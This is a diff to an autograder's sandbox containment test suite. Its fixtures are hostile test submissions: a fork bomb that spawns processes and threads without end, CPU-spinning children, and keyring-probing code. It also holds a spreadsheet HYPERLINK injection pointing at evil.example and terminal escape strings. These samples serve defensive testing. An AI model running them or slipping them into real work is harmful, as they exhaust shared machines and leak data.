@@ -9,7 +9,12 @@ does) holds an honest submission and:
 - (2) ``c2_memory_children``: ``tanh_grad`` forks five children that each touch 1.5 GiB under
   ``--memory-mb 2048``: the submission as a whole is over, and is killed with a memory reason;
   the host's MemAvailable, sampled while the batch runs, never drops by more than the limit
-  plus ``MEMORY_MARGIN``;
+  plus ``MEMORY_MARGIN``; ``c2_fork_bomb``: ``tanh_grad`` and four children fork and start
+  threads for ever, ignoring every refusal: stopped at ``--max-processes`` with a reason, and
+  the sandbox uid never runs more tasks than that (sampled from outside, via /proc);
+  ``c2_busy_children``: twelve children spin for 2.5 s: together they get at most one core
+  (``CPU_MARGIN``), measured from outside, and the submission keeps full marks (twelve, so
+  that without the quota they would take more than that even from a loaded host);
 - (3) ``c3_many_references``: ``tanh_grad`` forges a reply that references one 64 MiB array
   80 times; ``c3_never_reads``: ``numerical_gradient`` asks for the test's function with a
   256 MiB argument and never reads the answer: both lose that test only, with a reason, and
@@ -24,7 +29,9 @@ does) holds an honest submission and:
   the output folder, no control character in the terminal summary, no formula in the CSV.
 
 A second, smaller batch forces the fallback (``--no-cgroups``) on this host and checks the
-memory case and its loud warning again. Run: ``.venv/bin/python -m pytest
+memory case, the fork bomb (RLIMIT_NPROC there) and its loud warning again. The CPU-time
+limit summed over a submission's processes is tested on the sandbox itself
+(``test_sandbox.py``: a small ``Policy.cpu_seconds``, with and without cgroups). Run: ``.venv/bin/python -m pytest
 tests/grader/test_containment.py`` (about 3 minutes on 2 loaded cores; needs namespaces).
 """
 
@@ -47,6 +54,7 @@ from pathlib import Path
 
 import pytest
 
+from autograder.config import DEFAULTS
 from autograder.grader.safety import refused_id
 from autograder.grader.submission import SubmissionResult
 from autograder.notebook import nbgrader_cells
@@ -69,6 +77,12 @@ MEMORY_MARGIN = 1536 * 2**20
 # (pages it shares with the zygote count in part, see ``sandbox.watchdog``), and it sees memory
 # only every 20 ms: the fallback's stated margin is 1 GiB more.
 FALLBACK_MARGIN = MEMORY_MARGIN + 2**30
+MAX_PROCESSES = DEFAULTS.max_processes      # the batches run with the default --max-processes
+# One core per sandbox (the cgroup's CPU quota): what the sandbox's processes may use beyond
+# it, measured from /proc (clock ticks of 10 ms at each end of a window of >= 1 s, the CFS
+# quota's own slack).
+CPU_MARGIN = 0.2
+BUSY_PREFIX, BUSY_CHILDREN = "bfsbusy", 12
 MODE = probe()
 HYPERLINK = '=HYPERLINK("http:evil.example?"&A1,"open")'   # (a folder name has no slash)
 ESCAPES = "\x1b[2J\x1b[31mmallory\nroot"
@@ -171,13 +185,69 @@ def memory_children():
     """))
 
 
-KERNEL_OBJECTS = ("user_keyring", "session_keyring", "persistent_keyring", "sysv_shm", "sysv_msg",
+def fork_bomb():
+    """tanh_grad and four children of it fork sleeping processes and start sleeping threads
+    for ever, ignoring every refusal (so no one process's limit is what stops them)."""
+    return F.with_answer(honest_nb(), TARGET, code("""
+        def tanh_grad(x):
+            import os, threading, time
+            def spawn_for_ever():
+                while True:
+                    try:
+                        if os.fork() == 0:
+                            time.sleep(600)
+                            os._exit(0)
+                    except OSError:
+                        pass
+                    try:
+                        threading.Thread(target=time.sleep, args=(600,), daemon=True).start()
+                    except RuntimeError:
+                        pass
+            for _ in range(4):
+                try:
+                    if os.fork() == 0:
+                        spawn_for_ever()
+                except OSError:
+                    pass
+            spawn_for_ever()
+    """))
+
+
+def busy_children():
+    """At its first call, tanh_grad runs BUSY_CHILDREN children that spin for 2.5 s (named for
+    the sampler), then answers right."""
+    return F.with_answer(honest_nb(), TARGET, code("""
+        _spun = []
+        def tanh_grad(x):
+            import ctypes, os, time
+            if not _spun:
+                _spun.append(True)
+                children, (start, go) = [], os.pipe()
+                for _ in range(__COUNT__):
+                    pid = os.fork()
+                    if pid == 0:
+                        os.close(go)
+                        os.read(start, 1)              # EOF: all are forked, start together
+                        ctypes.CDLL(None).prctl(15, __NAME__.encode(), 0, 0, 0)   # PR_SET_NAME
+                        end = time.monotonic() + 2.5
+                        while time.monotonic() < end:
+                            pass
+                        os._exit(0)
+                    children.append(pid)
+                os.close(go)
+                for pid in children:
+                    os.waitpid(pid, 0)
+            return 1 - np.tanh(x) ** 2
+    """, name=BUSY_PREFIX, count=BUSY_CHILDREN))
+
+
+KERNEL_OBJECTS = ("user_keyring", "user_session_keyring", "session_keyring", "persistent_keyring", "sysv_shm", "sysv_msg",
                   "sysv_sem", "posix_mqueue", "abstract_socket", "dev_shm", "tmp", "home_cache")
 PROBE = code("""
     import ctypes, ctypes.util, json, os, socket, time
     libc = ctypes.CDLL(None, use_errno=True)
     KEYCTL, ADD_KEY, REQUEST_KEY = 250, 248, 249
-    RINGS = {"user_keyring": -4, "session_keyring": -3}
+    RINGS = {"user_keyring": -4, "user_session_keyring": -5, "session_keyring": -3}
     SECRET, KEY = b"answers", b"bfs-__TOKEN__"
     def persistent():
         return libc.syscall(KEYCTL, 22, -1, -4)          # KEYCTL_GET_PERSISTENT(me, into @u)
@@ -314,6 +384,7 @@ class Batch:
     names_after: set
     memory_drop: int
     token: str
+    sandbox: F.SandboxSampler | None = None    # tasks and CPU of the sandbox uid, from outside
 
     def result(self, student: str) -> SubmissionResult:
         assert student in self.results, (f"no result for {student!r}; the grader said:\n"
@@ -321,8 +392,9 @@ class Batch:
         return self.results[student]
 
 
-def run_batch(base: Path, builds: dict, *, extra_paths=(), flags=()) -> Batch:
-    """Grade ``builds`` ({student: notebook or callable(path)}) as one class."""
+def run_batch(base: Path, builds: dict, *, extra_paths=(), flags=(), launcher=("-m",)) -> Batch:
+    """Grade ``builds`` ({student: notebook or callable(path)}) as one class (``launcher``: what
+    runs ``autograder`` after the interpreter, e.g. a script that restricts the host first)."""
     token = uuid.uuid4().hex
     seconds = 700 + (uuid.uuid4().int % 1000 + 1) / 1000    # marks this run's processes
     course, subs, out = base / "course", base / "subs", base / "out"
@@ -337,13 +409,15 @@ def run_batch(base: Path, builds: dict, *, extra_paths=(), flags=()) -> Batch:
         else:
             F.write(build, path)
     before = file_hashes(subs, course, *[Path(p).parent for p in extra_paths])
-    command = [sys.executable, "-m", "autograder", "grade", str(subs), *map(str, extra_paths),
+    command = [sys.executable, *launcher, "autograder", "grade", str(subs), *map(str, extra_paths),
                "--course", str(course), "--out", str(out), "--workers", "1", "--no-gradebook",
                "--test-timeout", "20", "--cell-timeout", "5", "--memory-mb", str(MEMORY_MB),
                "--submission-timeout", str(seconds), *flags]
     sampler = MemorySampler()
+    watch = F.SandboxSampler(f'"submission_seconds": {seconds}'.encode(), BUSY_PREFIX)
     completed = subprocess.run(command, cwd=ROOT, capture_output=True, text=True, timeout=1500)
     drop = sampler.stop()
+    watch.stop()
     time.sleep(1)
     results = {}
     for path in (out / ASSIGNMENT.name).glob(f"*/{NOTEBOOK}.result.json"):
@@ -351,7 +425,7 @@ def run_batch(base: Path, builds: dict, *, extra_paths=(), flags=()) -> Batch:
     marker = f'"submission_seconds": {seconds}'.encode()
     return Batch(base, out, results, completed, before,
                  file_hashes(subs, course, *[Path(p).parent for p in extra_paths]),
-                 sandbox_processes(marker), process_names(), drop, token)
+                 sandbox_processes(marker), process_names(), drop, token, watch)
 
 
 @pytest.fixture(scope="module")
@@ -361,7 +435,8 @@ def batch(tmp_path_factory):
     base = tmp_path_factory.mktemp("containment")
     token = uuid.uuid4().hex
     builds = {"honest": honest_nb(), "c1_setsid_daemon": setsid_daemon(token),
-              "c2_memory_children": memory_children(),
+              "c2_memory_children": memory_children(), "c2_fork_bomb": fork_bomb(),
+              "c2_busy_children": busy_children(),
               "c3_many_references": many_references(), "c3_never_reads": never_reads(),
               "k1_writer": kernel_objects(token, "leave"), "k2_reader": kernel_objects(token, "look")}
     builds.update({r.student: r.make for r in REFUSALS})
@@ -414,6 +489,37 @@ def test_class2_memory_is_limited_for_the_submission_as_a_whole(batch):
         f"MemAvailable dropped by {batch.memory_drop / 2**30:.2f} GiB"
     print(f"\nMemAvailable dropped by at most {batch.memory_drop / 2**30:.2f} GiB "
           f"(limit {MEMORY_MB / 1024:.0f} GiB + margin {MEMORY_MARGIN / 2**30:.1f} GiB)")
+
+
+def assert_only_the_target_test_lost(batch, student: str, reason: str):
+    result, honest = batch.result(student), {t.grade_id: t for t in batch.result("honest").tests}
+    assert [t.grade_id for t in result.tests] == list(honest), result.tests
+    for test in result.tests:
+        if test.grade_id == f"test_{TARGET}":
+            assert test.points == 0 and re.search(reason, test.message), (student, test.message)
+        else:
+            assert test.points == honest[test.grade_id].max_points, (student, test.grade_id, test.message)
+
+
+PROCESS_REASON = r"tried to run more processes and threads at once than its limit \(--max-processes"
+
+
+def test_class2_a_fork_bomb_is_stopped_at_the_process_limit_of_the_submission(batch):
+    assert_only_the_target_test_lost(batch, "c2_fork_bomb", PROCESS_REASON)
+    assert 0 < batch.sandbox.peak_tasks <= MAX_PROCESSES, \
+        f"the sandbox uid ran {batch.sandbox.peak_tasks} tasks at once (limit {MAX_PROCESSES})"
+    print(f"\nat most {batch.sandbox.peak_tasks} tasks of the sandbox uid at once (limit {MAX_PROCESSES}); "
+          f"the fork bomb graded in {batch.result('c2_fork_bomb').seconds:.1f} s")
+
+
+def test_class2_a_submission_gets_one_core_in_all(batch):
+    assert_full_marks(batch.result("c2_busy_children"))
+    cores, seconds = batch.sandbox.cores_used_while_all_ran(BUSY_CHILDREN)
+    assert seconds >= 1.0, f"the busy children were seen running together for {seconds:.2f} s only"
+    assert cores <= 1 + CPU_MARGIN, f"{BUSY_CHILDREN} busy children used {cores:.2f} cores over {seconds:.1f} s"
+    print(f"\n{BUSY_CHILDREN} busy children used {cores:.2f} cores together over {seconds:.1f} s (quota: 1 core; "
+          f"graded in {batch.result('c2_busy_children').seconds:.1f} s, the honest one in "
+          f"{batch.result('honest').seconds:.1f} s)")
 
 
 def test_class3_the_grader_side_stays_bounded_whatever_the_sandbox_sends(batch):
@@ -525,7 +631,8 @@ def fallback(tmp_path_factory):
     if not MODE.strong:
         pytest.skip(f"strong sandboxes are unavailable here ({MODE.reason})")
     return run_batch(tmp_path_factory.mktemp("fallback"),
-                     {"honest": honest_nb(), "c2_memory_children": memory_children()}, flags=["--no-cgroups"])
+                     {"honest": honest_nb(), "c2_memory_children": memory_children(), "c2_fork_bomb": fork_bomb()},
+                     flags=["--no-cgroups"])
 
 
 def test_fallback_without_cgroups_is_loud_and_still_limits_memory(fallback):
@@ -541,3 +648,14 @@ def test_fallback_without_cgroups_is_loud_and_still_limits_memory(fallback):
         f"MemAvailable dropped by {fallback.memory_drop / 2**30:.2f} GiB"
     assert not fallback.processes_after and fallback.before == fallback.after
     print(f"\nfallback: MemAvailable dropped by at most {fallback.memory_drop / 2**30:.2f} GiB")
+
+
+def test_fallback_without_cgroups_stops_a_fork_bomb_at_the_process_limit(fallback):
+    """Without cgroups RLIMIT_NPROC is the mechanism: it counts the tasks of the sandbox's uid
+    in the sandbox's own user namespace, i.e. of this submission only; the watchdog stops the
+    submission when its PID namespace holds that many."""
+    assert_only_the_target_test_lost(fallback, "c2_fork_bomb", PROCESS_REASON)
+    assert 0 < fallback.sandbox.peak_tasks <= MAX_PROCESSES, \
+        f"the sandbox uid ran {fallback.sandbox.peak_tasks} tasks at once (limit {MAX_PROCESSES})"
+    print(f"\nfallback: at most {fallback.sandbox.peak_tasks} tasks of the sandbox uid at once; "
+          f"the fork bomb graded in {fallback.result('c2_fork_bomb').seconds:.1f} s")
